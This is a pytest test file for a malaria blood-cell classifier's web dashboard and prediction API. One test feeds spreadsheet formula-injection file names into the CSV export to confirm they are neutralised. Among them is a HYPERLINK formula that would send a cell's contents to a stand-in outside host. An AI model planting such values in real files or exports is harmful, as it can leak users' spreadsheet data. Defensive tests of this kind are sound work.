"""The dashboard without a browser: callbacks as plain functions, layout by id, the API."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pytest
from _synthetic import draw_cell
from dash.exceptions import PreventUpdate
from PIL import Image

from malaria_classifier.dashboard import ids
from malaria_classifier.dashboard.callbacks import (
    DashboardContext,
    classify_example,
    classify_pending,
    download_csv,
    explain_results,
    render_results,
)
from malaria_classifier.dashboard.uploads import (
    DROPPED_PREFIX,
    UploadLimits,
    batch_summary,
    receive_browser_uploads,
)
from malaria_classifier.prediction import OUTPUT_COLUMNS


@pytest.fixture(scope="module")
def predictor():
    from malaria_classifier.prediction import Predictor

    return Predictor()


@pytest.fixture(scope="module")
def explainer(predictor):
    from malaria_classifier.explain import GradCam

    return GradCam(predictor.model)


@pytest.fixture
def context(predictor, explainer):
    return DashboardContext(predictor=predictor, explainer=explainer)


def png_bytes(image: np.ndarray, image_format: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(image).save(buffer, format=image_format)
    return buffer.getvalue()


def data_url(data: bytes, kind: str = "image/png") -> str:
    return f"data:{kind};base64," + base64.b64encode(data).decode()


def cell_png(parasitized: bool = True, seed: int = 0) -> bytes:
    rng = np.random.default_rng(seed)
    return png_bytes(np.asarray(draw_cell(48, parasitized, rng)))


def find_by_id(component, wanted: str):
    """Depth-first search of a Dash layout for the component with id ``wanted``."""
    if getattr(component, "id", None) == wanted:
        return component
    children = getattr(component, "children", None)
    if children is None:
        return None
    for child in children if isinstance(children, list | tuple) else [children]:
        found = find_by_id(child, wanted)
        if found is not None:
            return found
    return None


# --- uploads: limits and kinds, checked before decoding -------------------------------


def test_receive_uploads_refuses_wrong_kind_oversize_and_damaged_but_keeps_the_rest():
    limits = UploadLimits(max_file_bytes=1000, max_files=10, max_batch_bytes=10_000)
    good = cell_png()[:900] if len(cell_png()) > 1000 else cell_png()
    uploads = receive_browser_uploads(
        [data_url(good), data_url(b"x" * 2000), data_url(b"hello"), "data:image/png;base64,@@"],
        ["good.png", "huge.png", "notes.txt", "damaged.png"],
        limits,
    )
    assert [upload.error is None for upload in uploads] == [True, False, False, False]
    assert "huge.png: is 2,001 bytes, more than the 1,000-byte limit" in uploads[1].error
    assert "notes.txt: unsupported file kind (.txt)" in uploads[2].error
    assert "damaged.png: is not valid base64" in uploads[3].error and "again" in uploads[3].error


def test_receive_uploads_enforces_the_batch_limits_per_file():
    limits = UploadLimits(max_file_bytes=1000, max_files=2, max_batch_bytes=1500)
    contents = [data_url(b"a" * 800), data_url(b"b" * 800), data_url(b"c" * 10)]
    uploads = receive_browser_uploads(contents, ["a.png", "b.png", "c.png"], limits)
    assert uploads[0].error is None
    assert "batch limit" in uploads[1].error and "another batch" in uploads[1].error
    assert "batch limit" in uploads[2].error


def test_files_held_back_by_the_browser_get_the_right_message():
    limits = UploadLimits(max_file_bytes=1000)
    uploads = receive_browser_uploads(
        [DROPPED_PREFIX + "5000000", DROPPED_PREFIX + "10"], ["big.tif", "late.png"], limits
    )
    assert "big.tif: is 5,000,000 bytes, more than the limit of 1,000 bytes" in uploads[0].error
    assert "late.png: not classified, the batch limit" in uploads[1].error


# --- callbacks as plain functions -----------------------------------------------------


def test_classify_pending_gives_one_result_per_file_and_survives_bad_files(context):
    pending = {
        "contents": [
            data_url(cell_png(True, 1)),
            data_url(b"not an image at all"),
            data_url(png_bytes(np.asarray(draw_cell(40, False, np.random.default_rng(2))), "JPEG")),
        ],
        "filenames": ["infected.png", "corrupt.png", "healthy.jpg"],
    }
    results = classify_pending(context, pending, show_why=False)
    assert [result["filename"] for result in results] == [
        "infected.png",
        "corrupt.png",
        "healthy.jpg",
    ]
    assert results[1]["label"] == "" and "corrupt.png" in results[1]["error"]
    for result in (results[0], results[2]):
        assert result["label"] in ("Parasitized", "Uninfected")
        # The probability of the chosen label: under 0.5 only for a cell between 0.5
        # and an operating threshold that is not 0.5 (such a cell is Uncertain).
        chosen = (
            result["probability"]
            if result["label"] == "Parasitized"
            else 1.0 - result["probability"]
        )
        assert result["confidence"] == pytest.approx(chosen)
        assert result["image"].startswith("data:image/png;base64,")
        assert result["heat_map"] is None


def test_classify_pending_matches_the_predictor_on_the_same_file(context, predictor, tmp_path):
    data = cell_png(True, 3)
    path = tmp_path / "cell.png"
    path.write_bytes(data)
    [expected] = list(predictor.predict_paths([path]))
    [result] = classify_pending(
        context, {"contents": [data_url(data)], "filenames": ["cell.png"]}, False
    )
    assert result["label"] == expected.label
    assert result["probability"] == pytest.approx(expected.probability, abs=1e-6)


def test_classify_pending_ignores_an_empty_store(context):
    with pytest.raises(PreventUpdate):
        classify_pending(context, None, False)


def test_show_why_adds_heat_maps_that_differ_from_the_plain_image(context):
    pending = {"contents": [data_url(cell_png(True, 4))], "filenames": ["a.png"]}
    plain = classify_pending(context, pending, show_why=False)
    explained = explain_results(context, True, plain)
    assert explained[0]["heat_map"].startswith("data:image/png;base64,")
    assert explained[0]["heat_map"] != explained[0]["image"]
    assert plain[0]["heat_map"] is None  # the stored results are not modified in place
    with pytest.raises(PreventUpdate):
        explain_results(context, True, explained)  # nothing left to add
    with pytest.raises(PreventUpdate):
        explain_results(context, False, plain)


def test_render_results_builds_cards_table_summary_and_enables_download(
    context, predictor, shared_data_dir
):
    real_cell = sorted((shared_data_dir / "Parasitized").glob("*.png"))[0]
    pending = {
        "contents": [data_url(real_cell.read_bytes()), data_url(b"junk")],
        "filenames": ["a.png", "b.png"],
    }
    results = classify_pending(context, pending, show_why=True)
    cards, rows, summary, download_disabled, pages, _style = render_results(
        results, True, predictor.verdict_rule
    )
    assert len(cards) == 2 and len(rows) == 2 and download_disabled is False and pages == 1
    assert set(rows[0]) == {
        "filename",
        "decision",
        "label",
        "probability",
        "confidence",
        "reason",
        "error",
    }
    card_text = json.dumps(cards[0].to_plotly_json(), default=str)
    assert results[0]["decision"] in card_text and "P(Parasitized)" in card_text
    assert results[0]["heat_map"] in card_text  # the overlay is shown, not the plain view
    assert "Not classified" in json.dumps(cards[1].to_plotly_json(), default=str)
    summary_text = json.dumps(summary.to_plotly_json(), default=str)
    assert "If these cells are one patient" in summary_text and "indeterminate" in summary_text
    assert render_results([], False)[3] is True


def test_batch_summary_counts_decisions_share_and_verdict():
    from malaria_classifier.verdict import VerdictRule

    def result(decision, probability, error=""):
        label = "" if error else ("Parasitized" if probability >= 0.5 else "Uninfected")
        return {
            "filename": "x.png",
            "label": label,
            "probability": None if error else probability,
            "confidence": None,
            "error": error,
            "decision": "" if error else decision,
        }

    results = [
        result("Parasitized", 0.99),
        result("Parasitized", 0.95),
        result("Uninfected", 0.01),
        result("Uncertain", 0.45),
        result("Not a cell", 0.9),
        result("", None, error="bad"),
    ]
    rule = VerdictRule(cell_threshold=0.9, min_suspicious_cells=2, min_cells=3)
    summary = batch_summary(results, rule)
    assert summary["files"] == 6 and summary["failed"] == 1 and summary["cells"] == 4
    assert summary["decisions"] == {
        "Parasitized": 2,
        "Uninfected": 1,
        "Uncertain": 1,
        "Not a cell": 1,
    }
    assert summary["parasitized_share"] == pytest.approx(2 / 4)  # Not a cell is no cell
    verdict = summary["verdict"]
    assert (verdict["verdict"], verdict["confidence"]) == ("positive", pytest.approx(0.95))
    assert (verdict["min_cells"], verdict["min_suspicious_cells"]) == (3, 2)
    negative = batch_summary(results[2:], rule)["verdict"]
    assert negative["verdict"] == "indeterminate"  # only 2 usable cells, fewer than 3
    assert batch_summary(results)["verdict"] is None  # no rule, no verdict
    # No usable cell (failed files, non-cells): no patient verdict at all.
    assert batch_summary(results[4:], rule)["verdict"] is None


def test_a_picture_sent_twice_counts_once_in_the_cells_and_the_verdict(context):
    from malaria_classifier.dashboard.components import summary_panel
    from malaria_classifier.verdict import VerdictRule

    cell = data_url(cell_png(True, 30))
    pending = {"contents": [cell, cell, cell], "filenames": ["a/x.png", "copy.png", "x.png"]}
    results = classify_pending(context, pending, False)
    assert len({result["content_id"] for result in results}) == 1
    assert len(results[0]["content_id"]) == 32
    suspicious = [{**result, "probability": 0.99, "decision": "Parasitized"} for result in results]
    rule = VerdictRule(cell_threshold=0.9, min_suspicious_cells=3, min_cells=2)
    summary = batch_summary(suspicious, rule)
    assert summary["files"] == 3 and summary["cells"] == 1 and summary["repeated_files"] == 2
    assert summary["decisions"]["Parasitized"] == 3  # files, as on the cards
    assert summary["verdict"]["verdict"] == "indeterminate"  # one picture is not three cells
    text = json.dumps(summary_panel(summary).to_plotly_json(), default=str)
    assert "2 files repeat the picture of another file" in text and "counts once" in text
    other = {**suspicious[0], "content_id": "other", "filename": "y.png"}
    assert batch_summary([suspicious[0], other], rule)["repeated_files"] == 0


def test_the_verdict_says_why_in_words():
    from malaria_classifier.dashboard.components import verdict_explanation

    indeterminate = {"verdict": "indeterminate", "min_cells": 20, "min_suspicious_cells": 3}
    text = verdict_explanation(1, indeterminate)
    assert text.startswith("from 1 usable cell: too few to rule malaria out")
    assert "at least 20" in text and "Upload more" in text and "confidence" not in text
    positive = verdict_explanation(40, {"verdict": "positive", "min_suspicious_cells": 3})
    assert "from 40 usable cells: at least 3 very suspicious cells" in positive
    assert "weakest" in positive and "most suspicious" not in positive
    negative = verdict_explanation(1200, {"verdict": "negative", "min_suspicious_cells": 1})
    assert "from 1,200 usable cells: no very suspicious cell" in negative
    assert "most suspicious" in negative and "weakest" not in negative


def test_download_csv_has_the_columns_of_malaria_predict(context):
    pending = {
        "contents": [data_url(cell_png(False, 6)), data_url(b"x")],
        "filenames": ["a.png", "b.png"],
    }
    results = classify_pending(context, pending, False)
    download = download_csv(1, results)
    assert download["filename"] == "predictions.csv"
    table = list(csv.reader(io.StringIO(download["content"])))
    assert tuple(table[0]) == OUTPUT_COLUMNS
    assert table[1][0] == "a.png" and float(table[1][2]) == pytest.approx(
        results[0]["probability"], abs=1e-6
    )
    assert table[2][1] == "" and "b.png" in table[2][4]
    with pytest.raises(PreventUpdate):
        download_csv(None, results)


def test_download_csv_keeps_spreadsheets_from_running_file_names_as_formulas(context):
    names = ['=HYPERLINK("http://x.example/?"&A1,"click").png', "@SUM(1+1).png", "-2+3.png"]
    pending = {
        "contents": [data_url(cell_png(False, 6)), data_url(b"x"), data_url(cell_png(True, 2))],
        "filenames": names,
    }
    results = classify_pending(context, pending, False)
    table = list(csv.reader(io.StringIO(download_csv(1, results)["content"])))[1:]
    assert [row[0] for row in table] == ["'" + name for name in names]
    assert table[1][4].startswith("'@SUM(1+1).png: ")  # the error names the file first
    assert results[0]["filename"] == names[0]  # cards and table show the name unchanged


def test_classify_example_uses_the_gallery_index_only(context, tmp_path):
    example = tmp_path / "example.png"
    example.write_bytes(cell_png(True, 7))
    context.examples = [example]
    [result] = classify_example(context, 0, 1, show_why=False)
    assert result["filename"] == "example.png" and result["label"]
    for index, clicks in ((1, 1), (-1, 1), (0, 0), (None, 1)):
        with pytest.raises(PreventUpdate):
            classify_example(context, index, clicks, False)


# --- the app: layout by id, model page, API -------------------------------------------


@pytest.fixture(scope="module")
def app(predictor, explainer, tmp_path_factory):
    from malaria_classifier.dashboard import create_app

    examples = tmp_path_factory.mktemp("examples")
    for index in range(3):
        (examples / f"cell_{index}.png").write_bytes(cell_png(index % 2 == 0, 10 + index))
    (examples / "notes.txt").write_text("not an image")
    return create_app(predictor, examples=examples, explainer=explainer)


def test_layout_has_every_component_the_callbacks_use(app):
    for component_id in (
        ids.UPLOAD,
        ids.UPLOAD_LIMITS_TEXT,
        ids.PENDING_UPLOAD,
        ids.LIMITS_STORE,
        ids.SHOW_WHY,
        ids.PROGRESS,
        ids.PROGRESS_TEXT,
        ids.RESULTS_AREA,
        ids.RESULTS_STORE,
        ids.SUMMARY,
        ids.CARDS,
        ids.TABLE,
        ids.DOWNLOAD_BUTTON,
        ids.DOWNLOAD,
        ids.EXAMPLES,
        ids.TABS,
        ids.MODEL_PAGE,
        ids.CONFUSION_MATRIX,
        ids.ROC_CURVE,
    ):
        assert find_by_id(app.layout, component_id) is not None, component_id
    upload = find_by_id(app.layout, ids.UPLOAD)
    assert upload.multiple is True
    assert getattr(upload, "accept", None) is None  # wrong kinds must reach the server
    limits_text = find_by_id(app.layout, ids.UPLOAD_LIMITS_TEXT).children
    assert "10 MB per file" in limits_text and "per batch" in limits_text
    gallery = find_by_id(app.layout, ids.EXAMPLES)
    assert len(gallery.children[1].children) == 3  # the .txt file is not offered


def test_model_page_shows_the_card_metrics_and_interactive_figures(app, predictor):
    page = find_by_id(app.layout, ids.MODEL_PAGE)
    text = json.dumps(page.to_plotly_json(), default=str)
    test_metrics = predictor.card["metrics"]["test"]
    assert f"{test_metrics['metrics']['roc_auc']['value']:.3f}" in text
    assert "Positive class = Parasitized" in text and "bootstrap over patients" in text
    assert f"{test_metrics['patients']} patients" in text
    roc = find_by_id(app.layout, ids.ROC_CURVE)
    assert "ROC curve" in json.dumps(roc.figure.to_plotly_json()["layout"]["title"])


def test_model_page_without_a_card_says_so(tmp_path):
    from malaria_classifier.dashboard.model_page import model_page

    page = model_page(str(tmp_path / "model.keras"), {}, {})
    assert "no model card" in json.dumps(page.to_plotly_json(), default=str)


def test_model_page_rebuilds_the_confusion_matrix_from_the_card(predictor, tmp_path):
    from malaria_classifier.dashboard.model_page import load_evaluation_figures

    figures = load_evaluation_figures(tmp_path / "model.keras", predictor.card)
    assert set(figures) == {"confusion_matrix"}
    counts = predictor.card["metrics"]["test"]["confusion_matrix"]["counts"]
    assert [list(row) for row in figures["confusion_matrix"].data[0].z] == counts


def test_page_and_assets_are_served(app):
    client = app.server.test_client()
    assert client.get("/").status_code == 200
    css = client.get("/vendor/bootstrap.min.css")
    assert css.status_code == 200 and b"Bootstrap" in css.get_data()[:200]
    layout = client.get("/_dash-layout")
    assert layout.status_code == 200 and ids.UPLOAD in layout.get_data(as_text=True)


def _blank_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), (255, 255, 255)).save(buffer, format="PNG")
    return buffer.getvalue()


def test_api_predict_returns_the_fields_of_malaria_predict(app):
    client = app.server.test_client()
    response = client.post(
        "/api/predict",
        data={
            "file": [
                (io.BytesIO(cell_png(True, 20)), "cell.png"),
                (io.BytesIO(b"garbage"), "broken.png"),
                (io.BytesIO(b"text"), "readme.txt"),
                (io.BytesIO(_blank_png()), "blank.png"),
            ]
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 200
    rows = response.get_json()
    assert [set(row) for row in rows] == [set(OUTPUT_COLUMNS)] * 4
    assert rows[3]["decision"] == "Not a cell"
    assert "Send one stained red blood cell" in rows[3]["reason"]
    assert rows[0]["path"] == "cell.png" and rows[0]["label"] in ("Parasitized", "Uninfected")
    # A reason exactly when the answer is withheld (Uncertain, Not a cell).
    assert bool(rows[0]["reason"]) == (rows[0]["decision"] in ("Uncertain", "Not a cell"))
    assert rows[1]["label"] == "" and "broken.png" in rows[1]["error"]
    assert "unsupported file kind" in rows[2]["error"]


def test_api_predict_without_a_file_explains_how_to_call_it(app):
    response = app.server.test_client().post("/api/predict")
    assert response.status_code == 400
    assert "curl -F file=@cell.png" in response.get_json()["error"]


def test_api_refuses_oversized_requests_before_decoding(predictor, explainer):
    from malaria_classifier.dashboard import create_app

    limits = UploadLimits(max_file_bytes=1000, max_files=5, max_batch_bytes=3000)
    small = create_app(predictor, limits=limits, explainer=explainer)
    client = small.server.test_client()
    response = client.post(
        "/api/predict",
        data={"file": [(io.BytesIO(b"x" * 2_000_000), "huge.png")]},
        content_type="multipart/form-data",
    )
    assert response.status_code == 413
    assert "split the batch" in response.get_json()["error"]
    assert response.get_json()["error"].startswith("The request is larger than 1,052,576 bytes.")
    # Sent chunked, the size is never announced: the message cannot pretend to know why.
    body = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="huge.png"\r\n\r\n'
        + b"x" * 2_000_000
        + b"\r\n--x--\r\n"
    )
    response = client.post(
        "/api/predict",
        input_stream=io.BytesIO(body),
        headers={"Transfer-Encoding": "chunked", "Content-Type": "multipart/form-data; boundary=x"},
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert response.status_code == 413
    assert (
        "larger than 1,052,576 bytes or has more than 10 form fields"
        in response.get_json()["error"]
    )
    response = client.post(
        "/api/predict",
        data={"file": [(io.BytesIO(b"x" * 1500), "big.png")]},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422  # no file could be classified
    # Only the limit plus one byte is read, so the message gives no made-up size.
    assert response.get_json()[0]["error"].startswith(
        "big.png: is more than the limit of 1,000 bytes."
    )


def test_find_examples_rejects_a_missing_or_empty_folder(tmp_path):
    from malaria_classifier.dashboard.app import find_examples

    missing = tmp_path / "missing"
    with pytest.raises(ValueError, match=f"^--examples {re.escape(str(missing))}: not a folder"):
        find_examples(missing)
    with pytest.raises(ValueError, match=f"^--examples {re.escape(str(tmp_path))}: no images"):
        find_examples(tmp_path)


def test_real_cells_from_the_shared_data_are_classified_correctly(context, shared_data_dir):
    paths = sorted((shared_data_dir / "Parasitized").glob("*.png"))[:20]
    paths += sorted((shared_data_dir / "Uninfected").glob("*.png"))[:20]
    pending = {
        "contents": [data_url(Path(path).read_bytes()) for path in paths],
        "filenames": [path.name for path in paths],
    }
    results = classify_pending(context, pending, False)
    truth = [path.parent.name for path in paths]
    correct = sum(result["label"] == label for result, label in zip(results, truth, strict=True))
    assert correct >= 36, f"only {correct} of 40 real cells right"


def test_wsgi_entry_point_reads_its_settings_from_the_environment(monkeypatch, tmp_path):
    from malaria_classifier.dashboard.wsgi import create_server

    (tmp_path / "one.png").write_bytes(cell_png(True, 30))
    monkeypatch.setenv("MALARIA_EXAMPLES", str(tmp_path))
    monkeypatch.delenv("MALARIA_MODEL", raising=False)
    server = create_server()
    page = server.test_client().get("/_dash-layout").get_data(as_text=True)
    assert ids.EXAMPLE_BUTTON in page and "bundled default" in page


def test_a_server_failure_becomes_a_message_on_every_card(predictor, explainer, caplog):
    class BrokenPredictor:
        image_size = predictor.image_size

        def predict_images(self, images, names):
            raise RuntimeError("model exploded")

    broken = DashboardContext(predictor=BrokenPredictor(), explainer=explainer)
    pending = {"contents": [data_url(cell_png(True, 40))] * 2, "filenames": ["a.png", "b.png"]}
    results = classify_pending(broken, pending, False)
    assert [result["label"] for result in results] == ["", ""]
    assert all("the server failed (RuntimeError: model exploded)" in r["error"] for r in results)
    assert "Classifying a batch of 2 files failed" in caplog.text


def test_the_dashboard_serves_a_freshly_trained_model_without_a_card(tmp_path):
    from _synthetic import save_tiny_model

    from malaria_classifier.dashboard import create_app
    from malaria_classifier.prediction import Predictor

    model = Predictor(save_tiny_model(tmp_path / "run" / "model.keras"))
    app = create_app(model)
    page = find_by_id(app.layout, ids.MODEL_PAGE)
    assert "no model card" in json.dumps(page.to_plotly_json(), default=str)
    context = DashboardContext(predictor=model, explainer=None)
    [result] = classify_pending(
        context, {"contents": [data_url(cell_png(True, 41))], "filenames": ["c.png"]}, False
    )
    assert result["label"] in ("Parasitized", "Uninfected") and not result["error"]


# --- what a technician reads on the page ----------------------------------------------


def _result(decision: str, probability: float, **fields):
    label = "Parasitized" if probability >= 0.549 else "Uninfected"
    confidence = probability if label == "Parasitized" else 1.0 - probability
    return {
        "filename": "cell.png",
        "label": label,
        "probability": probability,
        "confidence": confidence,
        "error": "",
        "decision": decision,
        "reason": "",
        "image": "data:image/png;base64,",
        "heat_map": None,
        **fields,
    }


def test_an_uncertain_card_names_the_threshold_and_shows_no_confidence_bar():
    from malaria_classifier.dashboard.components import result_card

    reason = (
        "P(Parasitized) 0.537 lies in the Uncertain band 0.165-0.882 around the decision "
        "threshold 0.549"
    )
    card = result_card(_result("Uncertain", 0.537, reason=reason), show_why=False)
    text = json.dumps(card.to_plotly_json(), default=str)
    assert "around the decision threshold 0.549" in text and "Leans Uninfected" in text
    assert "confident" not in text  # "46% confident" beside "leans Uninfected" misleads
    assert "text-warning-emphasis" in text  # amber text readable on white, not yellow
    clear = json.dumps(
        result_card(_result("Parasitized", 0.99), False).to_plotly_json(), default=str
    )
    assert "99.0% confident" in clear


def test_the_decision_rule_puts_the_threshold_in_an_uncertain_reason():
    from malaria_classifier.decision import DecisionRule

    rule = DecisionRule(temperature=1.0, threshold=0.549, uncertain_margin=0.5)
    decisions, reasons = rule.decide(np.array([0.537, 0.99]))
    assert decisions == ["Uncertain", "Parasitized"]
    assert reasons[0] == (
        "P(Parasitized) 0.537 lies in the Uncertain band 0.425-0.667 around the decision "
        "threshold 0.549"
    )


def test_a_not_a_cell_card_keeps_signal_names_in_its_tooltip_only():
    from malaria_classifier.dashboard.components import result_card

    reason = (
        "unlike the training cells in colour, shape and 7 more (foreground_red, thickness). "
        "Send one stained red blood cell per image, cropped close"
    )
    card = result_card(_result("Not a cell", 0.1, reason=reason), show_why=False)
    paragraph = card.children[1].children[-1]
    assert "foreground_red" not in paragraph.children and "and 7 more." in paragraph.children
    assert "foreground_red, thickness" in paragraph.title


def test_cards_come_a_page_at_a_time_and_the_table_keeps_every_row():
    from malaria_classifier.dashboard.components import CARDS_PER_PAGE

    results = [_result("Uninfected", 0.01, filename=f"c{index}.png") for index in range(130)]
    cards, rows, _summary, _disabled, pages, style = render_results(results, False, None, 1)
    assert len(cards) == CARDS_PER_PAGE and len(rows) == 130
    assert pages == -(-130 // CARDS_PER_PAGE) and style == {}
    last = render_results(results, False, None, pages)[0]
    assert len(last) == 130 - (pages - 1) * CARDS_PER_PAGE
    first_on_last = json.dumps(last[0].to_plotly_json(), default=str)
    assert f"c{(pages - 1) * CARDS_PER_PAGE}.png" in first_on_last
    # A page past the end (a smaller batch came in) shows its last page, not nothing.
    assert len(render_results(results[:3], False, None, pages)[0]) == 3
    assert render_results(results[:3], False, None, 1)[5] == {"display": "none"}


def test_the_summary_gives_the_share_as_a_range_and_flags_repeated_names():
    from malaria_classifier.dashboard.components import summary_panel

    results = [
        _result("Parasitized", 0.99, filename="same.png"),
        _result("Uncertain", 0.54, filename="same.png"),
        _result("Uninfected", 0.01, filename="a.png"),
        _result("Uninfected", 0.02, filename="b.png"),
    ]
    summary = batch_summary(results)
    assert summary["parasitized_share"] == pytest.approx(1 / 4)
    assert summary["parasitized_share_high"] == pytest.approx(2 / 4)
    assert summary["duplicate_names"] == {"same.png": 2}
    text = json.dumps(summary_panel(summary).to_plotly_json(), default=str)
    assert "25.0% to 50.0%" in text
    assert "same.png (2 files)" in text and "cannot be told apart" in text


def test_gif_and_webp_are_accepted_as_the_decoder_advises():
    from malaria_classifier.dashboard.uploads import check_kind

    assert check_kind("cell.gif") is None and check_kind("cell.webp") is None
    assert "GIF or WebP" in check_kind("notes.txt")


def test_api_answers_wrong_methods_and_paths_in_json(app):
    client = app.server.test_client()
    response = client.get("/api/predict")
    assert response.status_code == 405 and response.headers["Allow"] == "POST, OPTIONS"
    assert "Use POST" in response.get_json()["error"]
    response = client.options("/api/predict")
    assert response.status_code == 204 and response.headers["Allow"] == "POST, OPTIONS"
    response = client.post("/api/predictions")
    assert response.status_code == 404 and "/api/predict" in response.get_json()["error"]
    for path in ("/api", "/api/"):
        response = client.get(path)
        assert response.status_code == 404, path
        assert "curl -F file=@cell.png http://localhost/api/predict" in response.get_json()["error"]
    response = client.get("/api/predict", base_url="http://127.0.0.1:9123")
    assert "http://127.0.0.1:9123/api/predict" in response.get_json()["error"]


def test_api_answers_each_file_past_the_batch_limits(predictor, explainer):
    from malaria_classifier.dashboard import create_app

    limits = UploadLimits(max_file_bytes=100_000, max_files=3, max_batch_bytes=100_000)
    small = create_app(predictor, limits=limits, explainer=explainer)
    client = small.server.test_client()
    cell = cell_png(True, 21)
    files = [(io.BytesIO(cell), f"c{index}.png") for index in range(4)]
    rows = client.post(
        "/api/predict", data={"file": files}, content_type="multipart/form-data"
    ).get_json()
    assert [row["error"] == "" for row in rows] == [True, True, True, False]
    assert "c3.png: not classified, the batch limit" in rows[3]["error"]
    # More files than the form parser takes by default per file allowed: a clear 413.
    many = [(io.BytesIO(b"x"), f"x{index}.png") for index in range(2 * 3 + 17)]
    response = client.post("/api/predict", data={"file": many}, content_type="multipart/form-data")
    assert response.status_code == 413 and "form fields" in response.get_json()["error"]
    # The batch's bytes count across files, as in the upload box.
    tight = create_app(
        predictor,
        limits=UploadLimits(max_file_bytes=len(cell), max_files=5, max_batch_bytes=len(cell) + 10),
        explainer=explainer,
    ).server.test_client()
    files = [(io.BytesIO(cell), "first.png"), (io.BytesIO(cell), "second.png")]
    rows = tight.post(
        "/api/predict", data={"file": files}, content_type="multipart/form-data"
    ).get_json()
    assert (
        rows[0]["error"] == "" and "second.png: not classified, the batch limit" in rows[1]["error"]
    )


def test_examples_in_class_folders_show_the_label_they_are_filed_under(tmp_path):
    from malaria_classifier.dashboard.app import example_thumbnails, find_examples
    from malaria_classifier.dashboard.components import example_gallery

    (tmp_path / "Parasitized").mkdir()
    (tmp_path / "Parasitized" / "p.png").write_bytes(cell_png(True, 30))
    (tmp_path / "other.png").write_bytes(cell_png(False, 31))
    thumbnails = example_thumbnails(find_examples(tmp_path), 64)
    assert [(name, label) for name, _url, label in thumbnails] == [
        ("p.png", "Parasitized"),
        ("other.png", ""),
    ]
    text = json.dumps(example_gallery(thumbnails).to_plotly_json(), default=str)
    assert "Classify p.png (filed as Parasitized)" in text and "Classify other.png" in text
